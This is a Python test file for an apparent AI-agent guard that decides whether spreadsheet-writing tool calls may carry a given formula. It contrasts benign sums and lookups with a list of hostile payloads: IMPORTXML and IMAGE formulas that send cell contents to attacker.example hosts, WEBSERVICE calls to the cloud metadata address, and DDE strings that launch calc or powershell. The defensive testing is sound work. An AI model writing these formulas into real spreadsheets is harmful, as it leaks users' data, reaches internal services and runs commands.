"""Spreadsheet formulas (understanding/formulas.py): a formula that fetches a URL built from
the sheet's cells carries them out when computed, one that fetches an internal address reaches
it, and a DDE call runs a program; sums, lookups, links and plain images are sheet work."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aimds.rules.understanding.formulas import read_formula
from aimds.types import Decision

FirstCall = Callable[[str, dict[str, Any]], Decision]
_STOP = ("review", "block")
_WRITERS = [("sheets_update_cell", "value"), ("update_spreadsheet", "values"),
            ("write_cells", "cells"), ("excel_write_range", "data")]  # fmt: skip

BENIGN = [
    "=SUM(A1:A10)",
    "=VLOOKUP(B2, Sheet2!A:C, 3, FALSE)",
    '=IMAGE("https://cdn.example.com/logo.png")',
    '=HYPERLINK("https://docs.example.com/page", "docs")',
    '=IF(A2>0, "up", "down")',
    "-5",
    "@alice please check",
]
DANGEROUS = [
    '=IMPORTXML("https://attacker.example/?d="&A1:A50, "//a")',
    '=IMAGE(CONCATENATE("https://x.example/p?", Sheet2!A1))',
    '=IMPORTDATA(TEXTJOIN(",", TRUE, "https://x.example/c?", B1:B9))',
    '=WEBSERVICE("http://169.254.169.254/latest/meta-data/")',
    '=IMPORTHTML("http://10.0.0.5/admin", "table", 1)',
    "=cmd|' /C calc'!A0",
    "@SUM(cmd|'/c powershell -nop -c iex(1)'!A0)",
    "=IMPORTRANGE(B1, \"Sheet1!A:Z\")",  # a URL taken from a cell: cannot be read
]


def _shape(key: str, formula: str) -> Any:
    if key == "values":
        return [[formula, "x"]]
    if key == "cells":
        return {"C3": formula}
    return formula


@pytest.mark.parametrize("formula", BENIGN)
@pytest.mark.parametrize(("tool", "key"), _WRITERS)
def test_sheet_work_is_allowed(first_call: FirstCall, tool: str, key: str, formula: str) -> None:
    decision = first_call(tool, {"range": "B2", key: _shape(key, formula)})
    assert decision.verdict.value not in _STOP, decision.rules


@pytest.mark.parametrize("formula", DANGEROUS)
@pytest.mark.parametrize(("tool", "key"), _WRITERS)
def test_fetching_formulas_and_dde_are_stopped(
    first_call: FirstCall, tool: str, key: str, formula: str
) -> None:
    assert first_call(tool, {"range": "B2", key: _shape(key, formula)}).verdict.value in _STOP


def test_the_reading_says_what_it_found() -> None:
    found = read_formula('=IMPORTXML("https://a.example/?d="&A1, "//a")')
    assert found is not None and found.fetches and found.computed
    assert found.urls == ("https://a.example/?d=",)
    assert read_formula("=SUM(A1:A3)") is None
    assert read_formula("IMPORTXML is a function") is None  # no formula: prose


# first_call is stateless between calls (a fresh agent each), so sharing it is safe
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
@given(
    function=st.sampled_from(["IMPORTXML", "importdata", "Image", "WEBSERVICE", "IMPORTFEED"]),
    cell=st.from_regex(r"(?:Sheet[1-3]!)?[A-H][1-9][0-9]?(?::[A-H][1-9])?", fullmatch=True),
    join=st.sampled_from(['"{u}"&{c}', 'CONCATENATE("{u}", {c})', 'CONCAT("{u}",{c})']),
    host=st.from_regex(r"[a-z]{3,10}\.example", fullmatch=True),
    start=st.sampled_from(["=", "+", "@"]),
)
def test_a_fetch_built_from_cells_is_never_allowed(
    first_call: FirstCall, function: str, cell: str, join: str, host: str, start: str
) -> None:
    """Property: whatever the function's case, the cells and the way they are joined, a
    formula that fetches a URL built from the sheet is stopped."""
    url = join.format(u=f"https://{host}/c?d=", c=cell)
    formula = f"{start}{function}({url})"
    assert first_call("sheets_update_cell", {"value": formula}).verdict.value in _STOP
